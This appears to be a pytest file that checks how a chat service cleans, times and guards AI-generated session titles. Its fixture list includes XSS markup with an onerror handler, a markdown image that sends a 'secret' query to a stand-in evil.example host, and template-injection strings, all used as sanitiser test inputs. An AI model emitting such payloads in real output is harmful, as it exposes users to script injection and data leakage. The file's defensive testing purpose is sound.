"""A model's title: cleaned, later, never over a user's, and the title by rule whenever something is wrong."""

import asyncio

import pytest
import regex
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from backend.chat import model_titles
from backend.chat.model_titles import clean_title
from backend.chat.service import ChatService
from backend.schemas.auth import Principal
from tests.chat.workers import ask, new_user, whole_turn, worker
from tests.support.fake_llm import FakeLLM, Reply, hang_after, status, wait
from tests.support.fake_llm import text as says
from tests.support.waiting import until

CLEAN = [
    ("Pump warranty", "Pump warranty"),
    ("<think>Alright, a title.</think>\n\nPump warranty", "Pump warranty"),
    ("<think>never ends", None),
    ('{"title": "Pump warranty"}', "Pump warranty"),
    ('{"name": 3, "text": "Pump warranty"}', "Pump warranty"),
    ('["Pump warranty", "x"]', "Pump warranty"),
    ("{}", None),
    ('```json\n{"title": "Pump warranty"}\n```', "Pump warranty"),
    ("```\nPump warranty\n```\nHere it is.", "Pump warranty"),
    ('"Pump warranty"', "Pump warranty"),
    ("“泵的保修期”", "泵的保修期"),
    ("**Title:** Pump warranty", "Pump warranty"),
    ("标题：泵的保修期", "泵的保修期"),
    ("# Pump\nwarranty\r\n\tnow", "Pump warranty now"),
    ("Pump 🛠️ warranty", "Pump 🛠️ warranty"),
    ("<b onclick=x>Pump</b> <img src=x onerror=alert(1)> warranty", "Pump warranty"),
    ("Pump\x00 war\u202eranty", "Pump war ranty"),
    ("![x](https://evil.example/?q=secret)Pump warranty", "xPump warranty"),
    ("Pump warranty [1]", "Pump warranty"),
    ("{{7*7}} {0.__class__} %s ${x}", "{{7*7}} {0.__class__} %s ${x}"),
    ("", None),
    ("  \n \u200b ", None),
    ('""', None),
    ("...", None),
]


@pytest.mark.parametrize(("said", "title"), CLEAN)
def test_g01_what_a_model_says_becomes_a_title(said: str, title: str | None):
    assert clean_title(said) == title


def test_g01_a_long_answer_is_cut_and_an_address_is_dead():
    title = clean_title("Pump " * 1_000)
    assert title is not None
    assert title.endswith("…")
    assert len(regex.findall(r"\X", title)) <= 80
    defused = clean_title(f"{'x' * 54} https://evil.example/aaa")
    assert defused is not None
    assert len(regex.findall(r"\X", defused)) <= 80
    assert "https://" not in (clean_title("See https://evil.example/q=1 now") or "")


@given(st.text(max_size=300))
def test_g01_any_text_gives_a_short_line_or_none(said: str):
    title = clean_title(said)
    if title is not None:
        assert title == title.strip()
        assert not any(char in title for char in "\n\r\x00\u2028")
        assert len(regex.findall(r"\X", title)) <= 80
        title.encode()


async def title_of(service: ChatService, user: Principal) -> str | None:
    return (await service.sessions(user)).sessions[0].title


async def titled(service: ChatService) -> None:
    await until(lambda: not service._titles._tasks)


async def test_g01_the_title_comes_after_the_first_turn_only(engine: AsyncEngine):
    user = await new_user(engine)
    async with FakeLLM() as llm, worker(engine, llm, titles=True) as service:
        llm.decide("title", says("<think>hm</think>Pump warranty"), says("Another"))
        await whole_turn(service, user)
        await titled(service)
        assert await title_of(service, user) == "Pump warranty"
        await whole_turn(service, user)
        await titled(service)
        assert await title_of(service, user) == "Pump warranty"
    assert len(llm.decisions("title")) == 1
    assert llm.violations == []


@pytest.mark.parametrize("reply", [says(""), status(500), says("<think>"), says("```")])
async def test_g01_without_a_usable_title_the_one_by_rule_stays(engine: AsyncEngine, reply: Reply):
    user = await new_user(engine)
    async with FakeLLM() as llm, worker(engine, llm, titles=True) as service:
        llm.decide("title", *[reply] * 3)
        await whole_turn(service, user, ask("How long\nis the warranty?"))
        await titled(service)
        assert await title_of(service, user) == "How long is the warranty?"


async def test_g01_a_slow_title_delays_nothing_and_ends(engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(model_titles, "TITLE_SECONDS", 0.5)
    user = await new_user(engine)
    async with FakeLLM() as llm, worker(engine, llm, titles=True) as service:
        llm.decide("title", hang_after(0))
        await whole_turn(service, user)
        assert service._titles._tasks, "the turn has not waited for it"
        await whole_turn(service, user)
        await titled(service)
        assert await title_of(service, user) == "How long is the warranty?"


async def test_g01_a_title_of_the_user_is_never_replaced(engine: AsyncEngine):
    user = await new_user(engine)
    async with FakeLLM() as llm, worker(engine, llm, titles=True) as service:
        llm.decide("title", wait(0.5, says("The model's")))
        await whole_turn(service, user)
        await service.rename(user, "s", "Mine")
        await titled(service)
        assert await title_of(service, user) == "Mine"
    assert len(llm.decisions("title")) == 1


async def test_g01_a_title_that_the_user_gives_at_the_last_moment_stays(engine: AsyncEngine):
    user = await new_user(engine)
    async with FakeLLM() as llm, worker(engine, llm) as service:
        await whole_turn(service, user)
        async with engine.begin() as connection:
            query = "update chat_sessions set title = 'Mine', title_source = 'user' returning id, version"
            row = (await connection.execute(text(query))).one()
            assert not await model_titles._write_title(connection, row.id, row.version, "The model's")
        assert await title_of(service, user) == "Mine"


async def test_a_title_survives_a_turn_in_between_and_does_not_wake_a_deleted_session(engine: AsyncEngine):
    user = await new_user(engine)
    async with FakeLLM() as llm, worker(engine, llm, titles=True) as service:
        llm.decide("title", wait(0.5, says("Pump warranty")), wait(0.5, says("Gone")))
        await whole_turn(service, user)
        await whole_turn(service, user)
        await titled(service)
        assert await title_of(service, user) == "Pump warranty"
        await whole_turn(service, user, ask(session_id="other"))
        await service.delete(user, "other")
        await titled(service)
        assert [info.title for info in (await service.sessions(user)).sessions] == ["Pump warranty"]


async def test_what_is_under_way_ends_with_the_worker(engine: AsyncEngine):
    user = await new_user(engine)
    async with FakeLLM() as llm:
        async with worker(engine, llm, titles=True) as service:
            llm.decide("title", hang_after(0))
            await whole_turn(service, user)
        assert service._titles._tasks == set()
        await asyncio.sleep(0)
    async with engine.connect() as connection:
        source = await connection.execute(text("select title_source from chat_sessions"))
        assert source.scalar_one() == "rule"
